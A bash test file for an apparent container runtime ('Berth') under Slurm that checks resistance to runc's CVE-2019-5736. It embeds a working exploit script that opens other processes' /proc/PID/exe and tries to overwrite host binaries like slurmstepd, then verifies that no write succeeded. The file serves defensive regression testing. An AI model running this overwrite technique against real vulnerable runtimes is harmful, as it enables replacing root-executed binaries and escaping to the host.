# shellcheck shell=bash disable=SC2016
# runc's CVE-2019-5736: a command that is "#!/proc/self/exe" runs the runtime's own program inside the container, where
# another process takes it by /proc/PID/exe, and writes to it once it has ended. A weaker runtime is so replaced, and is
# root's when it runs next.

setup_file() {
    slurm_up required
    local root=$FILE_TMP/self
    cp -a "$FIXTURES/demo" "$root"
    printf '#!/proc/self/exe\n' >"$root/again"
    chmod 0755 "$root/again"
    cat >"$root/overwrite" <<'SH_INSIDE'
#!/bin/sh
# Takes every program of every process, holds it, and tries to write to it until long after that process has ended.
end=$(($(date +%s) + 8))
while [ "$(date +%s)" -lt "$end" ]; do
    for exe in /proc/[0-9]*/exe; do
        case $(readlink "$exe") in '' | /bin/busybox) continue ;; esac
        [ ! -e "/tmp/took$$${exe%/exe}" ] || continue
        mkdir -p "/tmp/took$$${exe%/exe}"
        (exec 9<"$exe" && echo "met $(readlink "$exe")" &&
            for i in $(seq 40); do (echo overwritten >/proc/self/fd/9) 2>/dev/null && echo WRITTEN; sleep 0.1; done) 2>/dev/null &
        (echo overwritten >>"$exe") 2>/dev/null && echo WRITTEN
    done
done
wait
rm -rf "/tmp/took$$"
SH_INSIDE
    chmod 0755 "$root/overwrite"
    SELF=$TEST_HOME/self.sif
    build_image "$SELF" "$root"
    chown "$TEST_USER:" "$SELF"
    # What the runtime's programs are linked with; busybox needs none of it.
    LIBRARIES=$(printf '%s,' /lib /lib64 /usr/lib)
    LIBRARIES=${LIBRARIES%,}
    mapfile -t PROGRAMS < <(find "$BERTH_PREFIX" -type f -perm /111; command -v slurmstepd srun sh || true; find /usr/sbin /usr/lib -name 'slurmstepd*' 2>/dev/null)
}
teardown_file() { slurm_down; }

sums() { sha256sum "${PROGRAMS[@]}" | sort -u; }

test_slurmstepd_and_ours() {
    local before overwriter i
    before=$(sums)
    as_user srun --quiet --overlap --container="$SELF" --container-bind="$LIBRARIES" /overwrite >"$TEST_TMP/out" 2>&1 &
    overwriter=$!
    until_true 5 test -s "$TEST_TMP/out" || true
    for ((i = 0; i < 4; ++i)); do
        as_user timeout 2 srun --quiet --overlap --container="$SELF" --container-bind="$LIBRARIES" /again >/dev/null 2>&1 || true
    done
    wait "$overwriter" || true
    check_match 'met [^ ]*slurmstepd' "$(sort "$TEST_TMP/out" | uniq -c)" "or the attack shows nothing"
    check_no_match WRITTEN "$(sort "$TEST_TMP/out" | uniq -c)"
    check_equal "$before" "$(sums)" "the programs on the host"
    in_image "Berth demo" step "$DEMO"
    check_clean
}

# Without privilege, each container has a user namespace of its own, and the others' programs are out of reach, too.
test_berth_without_privilege() {
    local before i
    as_user unshare --user --map-root-user --mount true 2>/dev/null || skip "no user namespaces here"
    before=$(sums)
    as_user cp -a "$FILE_TMP/self" "$TEST_HOME/self"
    (become_user berth exec --bind "$LIBRARIES" self /overwrite) >"$TEST_TMP/out" 2>&1 &
    for ((i = 0; i < 4; ++i)); do as_user timeout 2 berth exec --bind "$LIBRARIES" self /again >>"$TEST_TMP/again" 2>&1 || true; done
    wait $! || true
    check_match 'berth' "$(<"$TEST_TMP/again")" "or our program did not run inside, and the attack shows nothing"
    check_no_match WRITTEN "$(sort "$TEST_TMP/out" | uniq -c)"
    check_equal "$before" "$(sums)" "the programs on the host"
    rm -rf "$TEST_HOME/self"
}
